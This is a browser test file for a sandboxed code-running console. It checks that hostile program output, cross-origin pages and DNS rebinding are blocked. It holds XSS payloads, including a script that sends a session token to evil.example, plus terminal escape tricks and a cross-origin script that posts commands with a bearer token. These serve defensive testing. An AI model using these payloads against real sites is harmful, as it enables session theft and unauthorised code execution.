/** Attacks on the console in a real browser: through guests' output, from pages of other origins, with names that resolve here. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from 'node:test'
import type { Locator } from 'playwright-core'
import { connectLazaret } from '../../src/adapters/client/index.ts'
import { adaToken, serveHere } from '../../test/adapters/http/serve-here.ts'
import { auditPage } from '../../test/support/audit-page.ts'
import { browse, whyNoBrowser } from '../../test/support/browse.ts'
import { eventually } from '../../test/support/eventually.ts'
import { whyNoSandboxes } from '../../test/support/sandboxes-here.ts'

const skip = whyNoBrowser
const noSandboxes = await whyNoSandboxes()

const hostile = [
  `<script>hacked = 1; fetch("https://evil.example/" + sessionStorage["lazaret-token"])</script>`,
  `<img src=x onerror="hacked = 1"><svg onload="hacked = 1"><iframe src="javascript:hacked = 1">`,
  `</pre></span><style>body { display: none }</style><base href="https://evil.example/">`,
  `\u202Eltr\u2066\u2069 \u001b[31mred\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007\u001b[2J\u001b]0;title\u0007\u009b31m`,
].join('\n')

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="hacked = 1"><script>hacked = 1; alert(1)</script>
<image href="https://evil.example/x.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>`

const program = `
import sys
hostile = input_data["text"]
class Markdown:
    def _repr_markdown_(self): return hostile
class Svg:
    def _repr_svg_(self): return input_data["svg"]
print(hostile)
print(hostile, file=sys.stderr)
display(Markdown())
display(Svg())
sys.stdout.write("x" * 3_000_000 + "\\n")
raise type("<b>Bold</b>", (Exception,), {})(hostile)
`

test('whatever a program prints, displays, returns and throws stays text', { skip }, async () => {
  await using here = await serveHere()
  await using browsing = await browse()
  const { page, troubles, origins } = await browsing.open()
  await page.addInitScript(
    'addEventListener("securitypolicyviolation", (e) => console.error(e.violatedDirective))',
  )
  await page.goto(`${here.url}/#token=${adaToken}`)
  await page.locator('.cm-content').fill(program)
  await page.getByText('Input and limits').click()
  await page.getByLabel('Input, as JSON').fill(JSON.stringify({ text: hostile, svg }))
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await page.locator('.guest-error').waitFor()
  assert.match(await page.locator('.guest-error').innerText(), /^<b>Bold<\/b>: <script>/)
  assert.match(await page.locator('.display pre').first().innerText(), /^<script>/)
  await page.getByRole('button', { name: /^Show SVG/ }).click()
  await page.frameLocator('.display iframe[sandbox=""]').locator('img').waitFor()
  const drawn = page.frames().find((one) => one.url().startsWith('blob:'))
  const width = 'document.images[0].decode().then(() => document.images[0].naturalWidth)'
  assert.equal(await drawn?.evaluate(width), 9)
  assert.equal(await page.locator('.display iframe').count(), 1)
  const strangers =
    'document.querySelectorAll("main script, main iframe:not([sandbox=\\"\\"]), main style, main base, main svg:not(.wall, .bar), main [onload], main [onerror]").length'
  assert.equal(await page.evaluate(strangers), 0)
  assert.ok(((await page.locator('.output').textContent()) ?? '').length <= 200_100)
  assert.equal(await page.evaluate('typeof hacked'), 'undefined')
  assert.equal(await page.title(), 'Run · Lazaret')
  assert.deepEqual([troubles, [...origins]], [[], [new URL(here.url).origin]])
})

const showing = `
class Page:
    def _repr_html_(self): return input_data["page"]
display(Page())
value = {hostile: 1 for hostile in input_data["keys"]}
value["self"] = value
value["long"] = list(range(1000))
value["text"] = "x" * 3_000_000
value
`

const hostilePage = [
  hostile,
  svg,
  '<table onclick="hacked = 1" style="position: fixed"><tr><td colspan="2" background="https://evil.example/">cell</td></tr></table>',
  '<link rel="preconnect" href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name="a" autofocus onfocus="hacked = 1"><button>go</button></form>',
  '<a href="javascript:hacked = 1" target="_top">link</a><object data="https://evil.example/"></object>',
  '<!--><img src=x onerror=hacked=1>--><p/onclick=hacked=1>last &lt;b&gt; &copy; <b<b>>bold</b>',
].join('\n')

/** Guest HTML that has bypassed the list of elements: what the frame itself still prevents. */
const intoFrame = `(() => {
  const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties))
  add('img', { src: 'https://evil.example/img' })
  add('iframe', { src: 'https://evil.example/frame' })
  add('link', { rel: 'stylesheet', href: 'https://evil.example/style' })
  add('style', { textContent: 'body { display: none }' })
  void fetch('https://evil.example/fetch').catch(() => undefined)
  location = 'javascript:parent.hacked = 1'
  return origin + ' ' + getComputedStyle(document.body).display
})()`
const stoppedInFrame = [
  /Loading the image .* violates/,
  /Framing .* violates/,
  /Loading the stylesheet .* violates/,
  /inline style violates/,
  /Connecting to .* violates/,
  /Blocked script execution/,
]

test('HTML of a program is shown in a frame that executes, loads and sends nothing', { skip }, async () => {
  await using here = await serveHere()
  const seen = { connections: 0, requests: 0 }
  const evil = createServer((request) => {
    seen.requests++
    request.destroy()
  }).on('connection', () => seen.connections++)
  await once(evil.listen(0, '127.0.0.1'), 'listening')
  using stop = { [Symbol.dispose]: () => void evil.close() }
  void stop
  const elsewhere = (text: string): string =>
    text.replaceAll('https://evil.example', `http://evil.example:${(evil.address() as AddressInfo).port}`)
  await using browsing = await browse(['evil.example'])
  const { page: shown, troubles, origins } = await browsing.open()
  await shown.addInitScript(
    'addEventListener("securitypolicyviolation", (e) => console.error(e.violatedDirective))',
  )
  await shown.goto(`${here.url}/#token=${adaToken}`)
  await shown.locator('.cm-content').fill(showing)
  await shown.getByText('Input and limits').click()
  await shown
    .getByLabel('Input, as JSON')
    .fill(JSON.stringify({ page: elsewhere(hostilePage), keys: hostile.split('\n') }))
  await shown.getByRole('button', { name: 'Run', exact: true }).click()
  const frame = shown.frameLocator('.display iframe')
  await frame.locator('td', { hasText: 'cell' }).waitFor()
  assert.equal(await shown.locator('.display iframe').getAttribute('sandbox'), '')
  assert.match(await frame.locator('body').innerText(), /last <b> © .*bold/)
  const inside = shown.frames().find((one) => one.url().startsWith('blob:'))
  assert.equal(
    await inside?.evaluate(
      'document.body.querySelectorAll(":not(table, tbody, tr, td, p, b, span, pre)").length + document.querySelectorAll("body [style], body [onclick], body [href], body [src]").length',
    ),
    0,
  )
  assert.equal(await inside?.evaluate('typeof hacked'), 'undefined')
  assert.deepEqual(seen, { connections: 0, requests: 0 })
  // The guest's HTML made no request that the policy had to block.
  assert.deepEqual([troubles.splice(0), [...origins]], [[], [new URL(here.url).origin]])
  assert.equal(await inside?.evaluate(elsewhere(intoFrame)), 'null block')
  await eventually(() => {
    const missing = stoppedInFrame.find((one) => !troubles.some((trouble) => one.test(trouble)))
    return missing === undefined ? undefined : `not stopped: ${String(missing)}`
  }, 10_000)
  // Chromium preconnects for a frame that the policy then refuses; the list of elements prevents that.
  assert.equal(seen.requests, 0)
  assert.equal(shown.url(), `${here.url}/`)
})

test(
  'a value that contains itself, hostile keys and long lists is a tree that opens level by level',
  { skip },
  async () => {
    await using here = await serveHere()
    await using browsing = await browse()
    const { page: shown, troubles, origins } = await browsing.open()
    await shown.goto(`${here.url}/#token=${adaToken}`)
    await shown.locator('.cm-content').fill(showing)
    await shown.getByText('Input and limits').click()
    await shown
      .getByLabel('Input, as JSON')
      .fill(JSON.stringify({ page: '', keys: [...hostile.split('\n'), '__proto__'] }))
    await shown.getByRole('button', { name: 'Run', exact: true }).click()
    const tree = shown.locator('.tree')
    await tree.getByText('<script>hacked = 1;', { exact: false }).waitFor()
    await tree.getByText('__proto__:', { exact: true }).waitFor()
    assert.equal(await tree.locator('script, img, iframe, style, [onload], [onerror]').count(), 0)
    for (let depth = 0; depth < 3; depth++)
      await tree
        .locator('summary', { hasText: /^self:/ })
        .nth(depth)
        .click()
    assert.equal(await countOnceShown(tree.locator('summary', { hasText: /^self:/ }), 4), 4)
    const items = tree.locator('.label', { hasText: /^\d+:$/ })
    await tree.locator('summary', { hasText: 'list of 1000' }).first().click()
    assert.equal(await countOnceShown(items, 100), 100)
    await tree.getByRole('button', { name: 'Show 100 more' }).click()
    assert.equal(await countOnceShown(items, 200), 200)
    assert.ok(((await tree.textContent()) ?? '').length < 50_000)
    assert.equal(await shown.evaluate('typeof hacked'), 'undefined')
    assert.deepEqual(await auditPage(shown), [])
    assert.deepEqual([troubles, [...origins]], [[], [new URL(here.url).origin]])
  },
)

test('file names and terminal output stay text', { skip: skip === false ? noSandboxes : skip }, async () => {
  await using here = await serveHere()
  await using browsing = await browse()
  const { page, troubles, origins } = await browsing.open()
  await page.addInitScript(
    'addEventListener("securitypolicyviolation", (e) => console.error(e.violatedDirective))',
  )
  const sandbox = await connectLazaret({ url: here.url, token: adaToken }).sandbox({ id: 'box' })
  await sandbox.writeFile('<img src=x onerror=hacked=1>', hostile)
  await sandbox.writeFile('\u202Efdp.exe', 'x')
  await sandbox.writeFile('hostile.txt', hostile)
  await page.goto(`${here.url}/#token=${adaToken}`)
  await page.getByRole('link', { name: 'Sandboxes' }).click()
  await page.getByRole('button', { name: 'box', exact: true }).click()
  await page.getByRole('button', { name: '<img src=x onerror=hacked=1>', exact: true }).waitFor()
  await page.getByRole('button', { name: 'Open a terminal' }).click()
  await page.locator('.xterm-rows', { hasText: '/workspace $' }).waitFor()
  await page.locator('.xterm-helper-textarea').focus()
  await page.keyboard.type('cat hostile.txt; echo end-$((1+1))\n')
  await page.locator('.xterm-rows', { hasText: 'end-2' }).waitFor()
  assert.equal(await page.evaluate('typeof hacked'), 'undefined')
  assert.equal(
    await page.evaluate('document.querySelectorAll("main script, main iframe, main style").length'),
    0,
  )
  assert.equal(await page.title(), 'Sandboxes · Lazaret')
  assert.deepEqual([troubles, [...origins]], [[], [new URL(here.url).origin]])
})

/** A level is drawn only after its element is opened, so this waits for the expected number of entries. */
async function countOnceShown(all: Locator, expected: number): Promise<number> {
  await all.nth(expected - 1).waitFor()
  return await all.count()
}

const attacks = `(async (url, token) => {
  const ended = (act) => act().then((value) => 'got ' + value, () => 'refused')
  const body = JSON.stringify({ language: 'shell', code: 'echo attacked' })
  const headers = { authorization: 'Bearer ' + token, 'content-type': 'application/json' }
  const loads = (tag, name, place) => new Promise((resolve, reject) => {
    const made = document.createElement(tag)
    made.onload = () => resolve(tag)
    made.onerror = reject
    made[name] = url + place
    document.body.append(made)
  })
  const socket = () => new Promise((resolve, reject) => {
    const made = new WebSocket(url.replace('http', 'ws') + '/v1/sandboxes/box/terminal', ['lazaret.terminal', 'lazaret.bearer.' + btoa(token)])
    made.onopen = () => resolve('socket')
    made.onerror = reject
  })
  return {
    fetch: await ended(() => fetch(url + '/v1/run', { method: 'POST', headers, body }).then((reply) => reply.status)),
    read: await ended(() => fetch(url + '/healthz').then((reply) => reply.text())),
    blind: await ended(() => fetch(url + '/v1/run', { method: 'POST', mode: 'no-cors', body }).then((reply) => reply.status)),
    script: await ended(() => loads('script', 'src', '/console.js')),
    picture: await ended(() => loads('img', 'src', '/icon.svg')),
    socket: await ended(socket),
  }
})`

test('a page of another origin can run, read and embed nothing, even with the token', { skip }, async () => {
  const works: unknown[] = []
  await using here = await serveHere({ engine: { admit: (work) => void works.push(work) } })
  const { port } = new URL(here.url)
  const evil = createServer((_, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<!doctype html><iframe id="frame" src="${here.url}/"></iframe>`)
  }).listen(0, '127.0.0.1')
  await once(evil, 'listening')
  try {
    await using browsing = await browse(['evil.example', 'rebound.example'])
    const { page } = await browsing.open()
    await page.goto(`http://evil.example:${(evil.address() as AddressInfo).port}/`)
    const seen = await page.evaluate<object>(
      `${attacks}(${JSON.stringify(here.url)}, ${JSON.stringify(adaToken)})`,
    )
    // A page cannot see the result of such a blind request, so the server's work shows that it was refused.
    assert.deepEqual(seen, {
      fetch: 'refused',
      read: 'refused',
      blind: 'got 0',
      script: 'refused',
      picture: 'refused',
      socket: 'refused',
    })
    assert.deepEqual(works, [])
    const framed = page.frames().find((frame) => frame !== page.mainFrame())
    assert.ok(!((await framed?.content().catch(() => '')) ?? '').includes('console.js'))
    // The same server by a name of the attacker: DNS rebinding.
    const rebound = await page.goto(`http://rebound.example:${port}/`)
    assert.equal(rebound?.status(), 403)
    const inside = await page.evaluate(
      `fetch('/v1/run', { method: 'POST', headers: { authorization: 'Bearer ${adaToken}', 'content-type': 'application/json' }, body: '{"language":"shell","code":"true"}' }).then((reply) => reply.status)`,
    )
    assert.equal(inside, 403)
    assert.deepEqual(works, [])
  } finally {
    evil.close()
    evil.closeAllConnections()
  }
})
